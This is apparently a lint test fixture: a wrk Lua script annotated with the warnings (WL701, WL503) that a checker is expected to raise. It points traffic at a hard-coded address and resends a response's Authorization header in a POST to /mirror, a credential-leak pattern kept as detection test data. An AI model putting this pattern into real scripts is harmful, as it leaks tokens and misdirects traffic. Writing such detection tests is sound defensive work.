-- Redirected target (WL701) gets response data through wrk.body and wrk.format (WL503).

function setup(thread)
   thread.addr = "10.1.2.3" -- want WL701
end

local pending = nil

function response(status, headers, body)
   wrk.body = body -- want WL503
   pending = wrk.format("POST", "/mirror", nil, headers["Authorization"]) -- want WL503
end

function request()
   if pending then
      return pending -- want WL503
   end
   return wrk.format("GET", "/")
end
